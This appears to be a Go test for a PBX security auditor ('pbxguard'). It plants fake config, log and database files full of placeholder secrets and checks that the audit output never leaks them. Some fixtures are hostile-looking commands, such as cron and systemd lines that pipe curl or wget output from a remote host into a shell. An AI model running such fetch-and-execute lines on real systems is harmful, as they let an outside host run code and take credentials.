package main

import (
	"bytes"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// canaryFiles is a host with Asterisk, FreePBX, FreeSWITCH and FusionPBX, and a
// secret, written CANARY, in every place where one can stand. Most of them are
// on lines that a check is about.
var canaryFiles = map[string]string{
	"etc/passwd": "root:x:0:0:root:/root:/bin/bash\nbert:CANARY:1001:115::/home/bert:/bin/bash\n",
	"etc/group":  "asterisk:CANARY:115:bert\n",
	"etc/crontab": "* * * * * root curl -u x:CANARY http://192.0.2.1/x | sh\n" +
		"1 1 * * * root mysqldump -pCANARY asterisk > /root/a.sql\n",
	"etc/cron.d/backup":                                    "PASSWORD=CANARY\n* * * * * root wget -q -O - --password=CANARY http://x | bash\n",
	"etc/systemd/system/site.service":                      "[Service]\nEnvironment=TOKEN=CANARY\nExecStart=/bin/sh -c 'curl -H \"Bearer CANARY\" h | sh'\n",
	"etc/ssh/sshd_config":                                  "PasswordAuthentication yes\nPermitRootLogin yes\n# CANARY\nAuthorizedKeysCommand /x CANARY\n",
	"etc/nftables.conf":                                    "table inet filter {\n chain input { # CANARY\n  type filter hook input priority 0; policy accept;\n  udp dport 5060 accept comment \"CANARY\"\n }\n}\n",
	"etc/iptables/rules.v4":                                "*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -p udp --dport 5060 -m comment --comment CANARY -j ACCEPT\n",
	"etc/ufw/user.rules":                                   "-A ufw-user-input -p udp --dport 5060 -j ACCEPT -m comment --comment CANARY\n",
	"etc/firewalld/zones/public.xml":                       "<zone><short>CANARY</short>\n<port port=\"5060\" protocol=\"udp\"/>\n</zone>\n",
	"etc/logrotate.d/asterisk":                             "/var/log/asterisk/full {\n weekly\n rotate 4\n postrotate\n  curl -u x:CANARY h\n endscript\n}\n",
	"etc/pbxguard/pbxguard.toml":                           "[calls]\nmode = \"observe\"\n[[pbx]]\nsecret = \"CANARY\"\npassword = \"CANARY\"\n",
	"etc/pbxguard/answers.toml":                            "spend_limit = false\nnote = \"CANARY\"\ninsurance = \"CANARY\"\n",
	"etc/odbc.ini":                                         "[a]\nPassword=CANARY\n",
	"etc/postgresql/15/main/postgresql.conf":               "timezone = 'UTC' # CANARY\n",
	"etc/timezone":                                         "Europe/Amsterdam\n",
	"proc/net/tcp":                                         "head\n   0: 00000000:13AE 00000000:0000 0A 00000000:00000000 00:00000000 00000000   110        0 20111 1 CANARY\n",
	"proc/412/status":                                      "Name:\tasterisk\nUid:\t0\t0\t0\t0\nCapEff:\t000001ffffffffff\nGroups:\tCANARY\n",
	"proc/412/cmdline":                                     "asterisk\x00CANARY\x00",
	"proc/412/environ":                                     "SECRET=CANARY\x00",
	"var/lib/dpkg/status":                                  "Package: asterisk\nStatus: install ok installed\nVersion: 1:16.2.0~dfsg-1\n\n",
	"var/log/lastlog":                                      "CANARY",
	"var/www/html/.env":                                    "DB_PASSWORD=CANARY\n",
	"var/www/html/backup.sql":                              "INSERT INTO x VALUES ('CANARY');\n",
	"var/www/html/config.php":                              "<?php $pw = 'CANARY';\n",
	"var/www/html/.x.php":                                  "<?php $pw = 'CANARY';\n",
	"var/www/html/admin/modules/core/module.sig":           "[hashes]\nCore.class.php = CANARY\n",
	"var/www/html/admin/modules/core/Core.class.php":       "<?php // CANARY\n",
	"var/www/html/admin/modules/cdr/module.xml":            "<module><version>17.0.1</version><key>CANARY</key></module>",
	"tftpboot/0004f2aabbcc.cfg":                            "password=CANARY\n",
	"etc/freepbx.conf":                                     "<?php\n$amp_conf['AMPDBUSER'] = 'u';\n$amp_conf['AMPDBPASS'] = 'CANARY';\n$amp_conf['AMPMGRPASS'] = \"CANARY\";\n",
	"etc/amportal.conf":                                    "FOPPASSWORD=CANARY\nARI_ADMIN_PASSWORD=CANARY\n",
	"etc/asterisk/asterisk.conf":                           "[options]\nrunuser=root\n",
	"etc/asterisk/pjsip.conf":                              "[305]\ntype=endpoint\nauth=305\ncontext=phones\n[305]\ntype=auth\nusername=305\npassword=CANARY\n[306]\ntype=auth\nmd5_cred=CANARY\n[306]\ntype=endpoint\nauth=306,305\naors=nowhere\n",
	"etc/asterisk/manager.conf":                            "[general]\nenabled=yes\nbindaddr=0.0.0.0\n[boss]\nsecret=CANARY\nwrite=all\n",
	"etc/asterisk/ari.conf":                                "[general]\nenabled=yes\n[x]\ntype=user\npassword=CANARY\n",
	"etc/asterisk/voicemail.conf":                          "[general]\nimapsecret=CANARY\n[default]\n301 => CANARY,Anna\n302 => -CANARY,Bert,,,dialout=phones\n",
	"etc/asterisk/extensions.conf":                         "[globals]\nPIN=CANARY\nOUTKEEPCID_1=off\n[phones]\nexten => _X.,1,Authenticate(CANARY)\n same => n,Dial(IAX2/me:CANARY@branch/${EXTEN})\n same => n,System(curl -u x:CANARY ${CALLERID(name)})\n[disa]\nexten => 1,1,DISA(CANARY,phones)\n",
	"etc/asterisk/queues.conf":                             "[sales]\nmember => Local/004930123456@from-queue,0,CANARY\n",
	"etc/asterisk/logger.conf":                             "[logfiles]\nsecurity => security\n",
	"var/log/asterisk/security":                            "[2026-01-01 00:00:00] SECURITY[1] x.c: SecurityEvent=\"SuccessfulAuth\",Service=\"AMI\",AccountID=\"CANARY\",SessionID=\"CANARY\"\n",
	"var/log/asterisk/cdr-csv/Master.csv":                  "\"CANARY\",\"1\",\"2\",\"c\",\"CANARY\",\"PJSIP/9-1\",\"\",\"DISA\",\"CANARY,phones\",\"2026-01-01 00:00:00\",\"\",\"\",1,1,\"X\",\"Y\",\"1.1\",\"CANARY\"\n",
	"var/spool/asterisk/voicemail/default/301/secret.conf": "[general]\npassword = CANARY\n",
	"var/backups/freepbx/asterisk.sql": "CREATE TABLE `ampusers` (\n  `username` x,\n  `password_sha1` x,\n  `sections` x\n);\nINSERT INTO `ampusers` VALUES ('anna','CANARY','*'),('bert','','*'),('cas','x','*');\n" +
		"CREATE TABLE `userman_users` (\n  `username` x,\n  `password` x\n);\nINSERT INTO `userman_users` VALUES ('301','CANARY');\n" +
		"CREATE TABLE `disa` (\n  `displayname` x,\n  `pin` x\n);\nINSERT INTO `disa` VALUES ('d','CANARY'),('e','');\n" +
		"CREATE TABLE `outbound_routes` (\n  `name` x,\n  `password` x\n);\nINSERT INTO `outbound_routes` VALUES ('abroad','CANARY');\n" +
		"CREATE TABLE `freepbx_settings` (\n  `keyword` x,\n  `value` x\n);\nINSERT INTO `freepbx_settings` VALUES ('AMPMGRPASS','CANARY'),('FOPPASSWORD','passw0rd');\n" +
		"CREATE TABLE `modules` (\n  `modulename` x,\n  `version` x,\n  `signature` x\n);\nINSERT INTO `modules` VALUES ('cdr','16.0.1','{\"status\":2,\"details\":\"CANARY\"}');\n" +
		"CREATE TABLE `users` (\n  `extension` x,\n  `password` x\n);\nINSERT INTO `users` VALUES ('301','CANARY');\n" +
		"CREATE TABLE `devices` (\n  `id` x,\n  `dial` x,\n  `user` x\n);\nINSERT INTO `devices` VALUES ('9','Local/004930123456@x','none');\n",
	"etc/fusionpbx/config.conf": "database.0.type = pgsql\ndatabase.0.host = 127.0.0.1\ndatabase.0.password = CANARY\nswitch.event_socket.password = CANARY\n",
	"var/backups/fusionpbx/postgresql/fusionpbx_pgsql_20261120.sql": "COPY public.v_domains (domain_uuid, domain_name) FROM stdin;\nd1\ta.test\n\\.\n" +
		"COPY public.v_extensions (extension_uuid, domain_uuid, extension, password, forward_all_enabled, forward_all_destination, enabled) FROM stdin;\ne1\td1\t100\tCANARY\ttrue\t0088213000000\ttrue\ne2\td1\t101\tCANARY\tfalse\t\ttrue\n\\.\n" +
		"COPY public.v_voicemails (voicemail_uuid, domain_uuid, voicemail_id, voicemail_password, voicemail_enabled) FROM stdin;\nm1\td1\t199\tCANARY\ttrue\n\\.\n" +
		"COPY public.v_users (user_uuid, domain_uuid, username, password, salt, api_key, user_totp_secret, user_enabled) FROM stdin;\nu1\td1\tann\tCANARY\tCANARY\tCANARY\t\ttrue\nu2\td1\tbob\tCANARY\tCANARY\t\tCANARY\ttrue\n\\.\n" +
		"COPY public.v_user_groups (user_uuid, group_name) FROM stdin;\nu1\tsuperadmin\nu2\tsuperadmin\n\\.\n" +
		"COPY public.v_device_lines (user_id, server_address, password) FROM stdin;\n100\ta.test\tCANARY\n\\.\n" +
		"COPY public.v_gateways (gateway_uuid, gateway, profile, username, password, enabled) FROM stdin;\ng1\titsp\texternal\tx\tCANARY\ttrue\n\\.\n" +
		"COPY public.v_call_center_agents (agent_name, agent_password, agent_contact) FROM stdin;\nann\tCANARY\tsofia/gateway/itsp/0088213000000\n\\.\n" +
		"COPY public.v_default_settings (default_setting_category, default_setting_subcategory, default_setting_value, default_setting_enabled) FROM stdin;\nprovision\tenabled\ttrue\ttrue\nprovision\thttp_auth_password\tCANARY\ttrue\n\\.\n" +
		"COPY public.v_dialplans (dialplan_uuid, domain_uuid, dialplan_name, dialplan_context, dialplan_enabled, dialplan_xml) FROM stdin;\n" +
		"p1\td1\tdisa\ta.test\ttrue\t<extension name=\"disa\"><condition field=\"destination_number\" expression=\"^1$\"><action application=\"set\" data=\"pin_number=CANARY\"/><action application=\"lua\" data=\"disa.lua\"/></condition></extension>\n\\.\n",
	"etc/freeswitch/freeswitch.xml": "<document type=\"freeswitch/xml\">\n<X-PRE-PROCESS cmd=\"include\" data=\"vars.xml\"/>\n" +
		"<section name=\"configuration\">\n<configuration name=\"event_socket.conf\"><settings><param name=\"listen-ip\" value=\"::\"/><param name=\"password\" value=\"CANARY\"/></settings></configuration>\n" +
		"<configuration name=\"xml_rpc.conf\"><settings><param name=\"auth-user\" value=\"x\"/><param name=\"auth-pass\" value=\"CANARY\"/></settings></configuration>\n" +
		"<configuration name=\"sofia.conf\"><profiles><profile name=\"external\"><gateways><gateway name=\"g\"><param name=\"password\" value=\"CANARY\"/></gateway></gateways><settings><param name=\"auth-calls\" value=\"false\"/></settings></profile></profiles></configuration>\n</section>\n" +
		"<section name=\"directory\"><domain name=\"a.test\"><user id=\"100\"><params><param name=\"password\" value=\"CANARY\"/><param name=\"vm-password\" value=\"CANARY\"/></params><variables><variable name=\"forward_all\" value=\"0088213000000\"/></variables></user>\n" +
		"<user id=\"101\"><params><param name=\"a1-hash\" value=\"CANARY\"/></params></user></domain></section>\n</document>\n",
	"etc/freeswitch/vars.xml":                               "<include>\n<X-PRE-PROCESS cmd=\"set\" data=\"default_password=CANARY\"/>\n<X-PRE-PROCESS cmd=\"exec-set\" data=\"x=curl -u a:CANARY h\"/>\n</include>\n",
	"etc/freeswitch/autoload_configs/xml_rpc.conf.xml":      "<configuration name=\"xml_rpc.conf\"><settings><param name=\"auth-pass\" value=\"CANARY\"/></settings></configuration>\n",
	"etc/freeswitch/autoload_configs/event_socket.conf.xml": "<configuration name=\"event_socket.conf\"><settings><param name=\"password\" value=\"CANARY\"/>",
}

// canaryDatabases are SQLite files with secrets.
var canaryDatabases = map[string]string{
	"var/lib/asterisk/astdb.sqlite3":             "CREATE TABLE astdb (key TEXT PRIMARY KEY, value TEXT); INSERT INTO astdb VALUES ('/AMPUSER/301/password','CANARY'), ('/CF/301','00881631234567'), ('/AMPUSER/301/novmpw','CANARY'), ('/AMPUSER/301/followme/ddial','DIRECT'), ('/AMPUSER/301/followme/grplist','004930123456#');",
	"var/lib/freeswitch/db/call_limit.db":        "CREATE TABLE db_data (hostname TEXT, realm TEXT, data_key TEXT, data TEXT); INSERT INTO db_data VALUES ('h','call_forward','100','0088213000000'), ('h','pins','100','CANARY'), ('h','call_forward','101','CANARY'); CREATE TABLE group_data (hostname TEXT, groupname TEXT, url TEXT); INSERT INTO group_data VALUES ('h','g','[secret=CANARY]sofia/gateway/g/0088213000000');",
	"var/lib/freeswitch/db/voicemail_default.db": "CREATE TABLE voicemail_prefs (username TEXT, domain TEXT, name_path TEXT, greeting_path TEXT, password TEXT); INSERT INTO voicemail_prefs VALUES ('100','a.test','','','CANARY');",
}

// plant lays the host out, with a secret in every place.
func plant(t *testing.T, secret string) (dir string) {
	t.Helper()
	dir = t.TempDir()
	for name, text := range canaryFiles {
		full := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(strings.ReplaceAll(text, "CANARY", secret)), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for name, statements := range canaryDatabases {
		full := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		db, err := sql.Open("sqlite3", full)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := db.Exec(strings.ReplaceAll(statements, "CANARY", secret)); err != nil {
			t.Fatal(err)
		}
		if err := db.Close(); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestAuditNeverWritesASecret greps all that pbxguard audit writes: every form,
// what it says on stderr, and the file of runs, after a second run over a tree
// in which every secret has changed.
func TestAuditNeverWritesASecret(t *testing.T) {
	secrets := []string{"canary-8Secret!xQ", "can4ry", "530917", "canaryVeryLong0123456789abcdef", "100canary"}
	for i, secret := range secrets {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			state := filepath.Join(t.TempDir(), "runs.db")
			written := map[string]string{}
			for _, planted := range []string{secret, "other" + secret} {
				dir := plant(t, planted)
				for _, form := range []string{"text", "json", "sarif", "junit", "html"} {
					var out, errs bytes.Buffer
					args := []string{"audit", "--config", filepath.Join(dir, "none.toml"), "--root", dir, "--state", state, "--format", form, "--all", "--country", "NL", "--number", "+31201234567"}
					code := run(args, &out, &errs)
					if code != 3 || out.Len() < 10_000 {
						t.Fatalf("%s: got exit code %d and %d bytes: %s", form, code, out.Len(), errs.String())
					}
					written[form] += strings.ReplaceAll(out.String(), dir, "") + errs.String()
				}
			}
			kept, err := os.ReadFile(state)
			if err != nil {
				t.Fatal(err)
			}
			written["the file of runs"] = string(kept)
			for _, kind := range []string{"asterisk", "freeswitch", "fusionpbx", "host"} {
				if !strings.Contains(written["json"], `"`+kind+`"`) {
					t.Errorf("%s was not audited", kind)
				}
			}
			for where, text := range written {
				if at := strings.Index(text, secret); at >= 0 {
					t.Errorf("%s: …%q…", where, text[max(0, at-120):min(len(text), at+60)])
				}
			}
		})
	}
}
